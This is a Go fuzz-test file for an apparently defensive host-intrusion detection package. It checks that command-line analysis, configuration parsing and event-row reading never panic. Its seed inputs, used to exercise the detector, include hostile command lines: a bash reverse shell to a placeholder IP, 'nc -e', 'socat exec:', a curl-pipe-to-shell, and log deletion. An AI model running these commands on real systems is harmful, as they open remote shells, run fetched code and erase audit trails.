package detect

import (
	"context"
	"log/slog"
	"strings"
	"testing"

	"github.com/edgesec/edgesec/event"
)

// FuzzCommandLine: any executable and command line is analysed without a
// panic, and every alert names a declared rule and has a description.
func FuzzCommandLine(f *testing.F) {
	for _, s := range []string{"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "iptables -P", "ssh -L", "ssh -o", "nc -e", "curl -o",
		"wget -O", "dockerd -H", "kill 1", "socat exec:", "auditctl -e", "rm /var/log/", "sh -c curl x | sh", `\x7fELF`, "", "-"} {
		f.Add("/usr/bin/"+strings.Fields(s + " x")[0], s)
	}
	s, err := New(Options{Logger: slog.New(slog.DiscardHandler), Config: Config{Custom: []CustomAlert{{Type: CustomProcessNotAllowed, Allow: []string{"bash"}}}}})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, exe, cmd string) {
		ev := event.Must(event.ProcessCreate, t0, &event.ProcessCreatePayload{Executable: exe, ProcessID: 7, ParentProcessID: 1, UserID: "0", CommandLine: cmd,
			ExtraDetails: event.ExtraDetails{"ParentExecutable": cmd}})
		_ = s.Process(context.Background(), &ev, func(x event.Event) {
			for _, a := range alertsOf([]event.Event{x}, "") {
				if a.AlertType == "" || a.Description == "" || a.DisplayName == "" {
					t.Errorf("alert %+v", a)
				}
			}
		})
	})
}

// FuzzParseConfig: any twin text is parsed or refused without a panic, and
// Configure never panics on what parses.
func FuzzParseConfig(f *testing.F) {
	f.Add("IoT_OpenPorts", "IoT_CryptoMiner=low", `[{"rule":"IoT_DisableFirewall","executable":"ufw*"}]`, `[{"type":"ProcessNotAllowed","allow":["a"]}]`)
	f.Add("", "", `[{"remoteAddress":"10.0.0.0/8"}]`, `[{"type":"FailedLocalLoginsNotInAllowedRange","min":0,"max":2,"window":"PT5M"}]`)
	s, err := New(Options{Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, dis, sev, sup, custom string) {
		c, err := ParseConfig(dis, sev, sup, custom)
		if err != nil {
			return
		}
		_ = s.Configure(c)
	})
}

// FuzzReadRows: any input is read or refused without a panic.
func FuzzReadRows(f *testing.F) {
	f.Add(`{"Events":[{"Name":"SecurityAlert","TimestampUTC":"2026-12-06T12:00:00Z","Payload":[{"AlertType":"X","ProcessId":1.5}]}]}`)
	f.Add(`{"Events":[{"Name":"SecurityRecommendation","Payload":[{"State":3}]}]} {`)
	f.Fuzz(func(t *testing.T, in string) {
		_, _ = ReadRows(strings.NewReader(in))
	})
}
